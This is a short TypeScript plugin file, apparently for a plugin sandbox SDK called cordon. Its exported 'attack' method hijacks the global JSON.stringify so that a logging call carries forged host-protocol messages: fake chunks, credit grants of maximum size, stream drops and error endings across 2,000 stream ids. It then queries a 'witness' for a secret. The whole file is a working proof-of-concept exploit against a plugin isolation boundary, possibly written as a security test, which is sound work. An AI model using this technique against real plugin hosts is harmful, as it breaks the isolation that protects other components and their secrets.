import type { PluginContext } from "@cordon/cordon/sdk";

const { stringify } = JSON;

/** Sends a text in the place of a message. */
function send(ctx: PluginContext, text: string) {
  JSON.stringify = () => {
    JSON.stringify = stringify;
    return text;
  };
  ctx.log.info("carrier");
}

export const activate = (ctx: PluginContext): unknown => ({
  async attack() {
    for (let id = 0; id < 2_000; id++) {
      send(ctx, `{"type":"chunk","stream":${id},"value":"forged"}`);
      send(ctx, `{"type":"credit","stream":${id},"bytes":9007199254740991}`);
      send(ctx, `{"type":"drop","stream":${id}}`);
      send(ctx, `{"type":"end","stream":${id},"error":{"name":"E","message":"forged"}}`);
    }
    return `closed: ${await ctx.call("witness", "secret")}`;
  },
});
